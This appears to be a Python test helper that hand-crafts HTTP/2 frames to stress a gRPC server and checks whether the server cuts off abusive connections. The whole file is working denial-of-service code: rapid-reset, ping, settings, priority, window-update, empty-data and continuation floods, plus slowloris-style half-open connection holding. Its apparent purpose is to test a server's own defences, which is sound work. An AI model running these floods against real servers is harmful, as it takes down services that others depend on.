"""HTTP/2 written by hand: connections that say what no client library would say.

As a program it attacks a server, for tests whose own process must stay free to ask. ``python raw_http2.py ATTACK TARGET
CA SECONDS PATIENCE`` floods it and prints one JSON line (see :class:`Outcome`) when the time is over; ``python
raw_http2.py hold KIND COUNT TARGET CA`` prints one when so many connections are open, and holds them until its standard
input ends.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import asdict, dataclass
from types import TracebackType
from typing import Self

from hpack import Decoder, Encoder
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PREDICT = "/conductor.prediction.v1.PredictionService/PredictBuildDuration"
CANCEL = 8
Headers = Sequence[tuple[str, str]]


class RawConnection:
    """A TLS connection; ``begun``: with HTTP/2's preface and settings said already."""

    def __init__(self, target: str, authority: str, *, begun: bool = True, timeout: float = 60.0) -> None:
        host, _, port = target.rpartition(":")
        context = ssl.create_default_context(cafile=authority)
        context.set_alpn_protocols(["h2"])
        connection = socket.create_connection((host, int(port)), timeout)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)  # as gRPC itself does
        self._socket = context.wrap_socket(connection, server_hostname=host)
        self._unread = b""
        self._encoder = Encoder()
        self.decoder = Decoder()
        """Of what the server says in headers."""
        self.closed = False
        """Whether the server has ended the connection."""
        if begun:
            self.send(PREFACE, SettingsFrame())

    def send(self, *parts: bytes | Frame) -> None:
        """Raises OSError: the server has ended the connection."""
        self._socket.sendall(b"".join(part if isinstance(part, bytes) else part.serialize() for part in parts))

    def headers(self, path: str = PREDICT, more: Headers = ()) -> bytes:
        """A block of headers for a call."""
        usual = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "127.0.0.1")]
        return self._encoder.encode([*usual, ("content-type", "application/grpc"), ("te", "trailers"), *more])

    def open(self, stream: int, block: bytes, *, ended: bool = False) -> HeadersFrame:
        """The frame that begins a stream with a whole block of headers."""
        return HeadersFrame(stream, block, flags=["END_HEADERS", *(["END_STREAM"] if ended else [])])

    def frames(self, seconds: float) -> Iterator[Frame]:
        """What the server says within the time, to the connection's end."""
        deadline = time.monotonic() + seconds
        while not self.closed:
            while (frame := self._next()) is not None:
                yield frame
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self._socket.settimeout(left)
            try:
                content = self._socket.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                return
            except OSError:
                content = b""
            self._unread += content
            self.closed = not content
        while (frame := self._next()) is not None:
            yield frame

    def heard(self) -> list[Frame]:
        """What the server has said, without waiting for more."""
        return list(self.frames(0.0005))

    def _next(self) -> Frame | None:
        if len(self._unread) < 9:
            return None
        frame, length = Frame.parse_frame_header(memoryview(self._unread[:9]))
        if len(self._unread) < 9 + length:
            return None
        with suppress(HyperframeError):
            frame.parse_body(memoryview(self._unread[9 : 9 + length]))
        self._unread = self._unread[9 + length :]
        return frame

    def close(self) -> None:
        self._socket.close()

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.close()


@dataclass
class Outcome:
    """How a flood ended."""

    connections: int = 0
    cut: int = 0
    """How many of them the server ended."""
    frames: int = 0
    """How many were sent."""
    seconds_to_cut: float = 0.0
    """The longest time that a connection lasted which was cut."""
    codes: tuple[int, ...] = ()
    """The different codes that connections or streams were ended with; 11 is ENHANCE_YOUR_CALM."""


Burst = Callable[[RawConnection, Iterator[int]], list[bytes | Frame]]


def _rapid_reset(connection: RawConnection, streams: Iterator[int]) -> list[bytes | Frame]:
    burst: list[bytes | Frame] = []
    for _ in range(50):
        stream = next(streams)
        burst += [connection.open(stream, connection.headers()), RstStreamFrame(stream, error_code=CANCEL)]
    return burst


def _pings(connection: RawConnection, streams: Iterator[int]) -> list[bytes | Frame]:
    return [PingFrame(0, opaque_data=b"conducto")] * 100


def _settings(connection: RawConnection, streams: Iterator[int]) -> list[bytes | Frame]:
    return [SettingsFrame(0, settings={4: 65535 + n}) for n in range(100)]


def _priorities(connection: RawConnection, streams: Iterator[int]) -> list[bytes | Frame]:
    return [PriorityFrame(1 + 2 * n, depends_on=0, stream_weight=n) for n in range(100)]


def _windows(connection: RawConnection, streams: Iterator[int]) -> list[bytes | Frame]:
    return [WindowUpdateFrame(0, window_increment=1)] * 100


def _empty_data(connection: RawConnection, streams: Iterator[int]) -> list[bytes | Frame]:
    stream = next(streams)
    return [connection.open(stream, connection.headers()), *[DataFrame(stream)] * 100]


def _continuations(connection: RawConnection, streams: Iterator[int]) -> list[bytes | Frame]:
    stream = next(streams)
    return [HeadersFrame(stream, connection.headers()), *[ContinuationFrame(stream, b"\x00\x01x\x01y" * 200)] * 100]


ATTACKS: dict[str, Burst] = {
    "rapid-reset": _rapid_reset,
    "pings": _pings,
    "settings": _settings,
    "priorities": _priorities,
    "windows": _windows,
    "empty-data": _empty_data,
    "continuations": _continuations,
}


def flood(attack: str, target: str, authority: str, seconds: float, patience_seconds: float) -> Outcome:
    """Send without a pause, on a new connection whenever the server ends one.

    ``patience_seconds``: for how much longer while it has not been told a code. Attackers are nice: on a busy machine
    they may not get to send anything in time.
    """
    outcome, burst, deadline = Outcome(), ATTACKS[attack], time.monotonic() + seconds

    def goes_on() -> bool:
        return time.monotonic() < deadline + (0.0 if outcome.codes else patience_seconds)

    while goes_on():
        began = time.monotonic()
        try:
            with RawConnection(target, authority) as connection:
                outcome.connections += 1
                _flood(connection, burst, goes_on, outcome)
                if connection.closed:
                    outcome.cut += 1
                    outcome.seconds_to_cut = max(outcome.seconds_to_cut, time.monotonic() - began)
        except OSError:  # not even let in
            time.sleep(0.01)
    return outcome


def _flood(connection: RawConnection, burst: Burst, goes_on: Callable[[], bool], outcome: Outcome) -> None:
    streams = iter(range(1, 2**31, 2))
    while goes_on() and not connection.closed:
        frames = burst(connection, streams)
        try:
            connection.send(*frames)
            outcome.frames += len(frames)
        except (OSError, ssl.SSLError):
            connection.closed = True
        codes = {frame.error_code for frame in connection.heard() if isinstance(frame, GoAwayFrame | RstStreamFrame)}
        outcome.codes = tuple(sorted({*outcome.codes, *codes}))


KINDS = ("silent", "one-byte", "half-hello", "tls-only", "idle", "half-headers", "no-body")
"""Ways of holding a connection: how far it gets before it falls silent."""


def held(kind: str, target: str, authority: str) -> socket.socket | RawConnection:
    """A connection that has said its part."""
    said = {"silent": b"", "one-byte": b"\x16", "half-hello": b"\x16\x03\x01\x02\x00\x01\x00"}
    if kind in said:
        host, _, port = target.rpartition(":")
        plain = socket.create_connection((host, int(port)), 10)
        plain.sendall(said[kind])
        return plain
    connection = RawConnection(target, authority, begun=kind != "tls-only")
    if kind == "half-headers":
        connection.send(HeadersFrame(1, connection.headers()))
    if kind == "no-body":
        connection.send(connection.open(1, connection.headers()))
    return connection


def hold(kind: str, count: int, target: str, authority: str) -> None:
    """Open connections, say how many were, hold them."""
    connections = []
    for _ in range(count):
        with suppress(OSError):
            connections.append(held(kind, target, authority))
    print(json.dumps({"held": len(connections)}), flush=True)
    sys.stdin.read()
    for connection in connections:
        connection.close()


if __name__ == "__main__":
    os.nice(19)  # attackers are not on the server's machine: they must not take its share of the processor
    if sys.argv[1] == "hold":
        hold(sys.argv[2], int(sys.argv[3]), *sys.argv[4:6])
    else:
        print(json.dumps(asdict(flood(*sys.argv[1:4], *map(float, sys.argv[4:6])))))
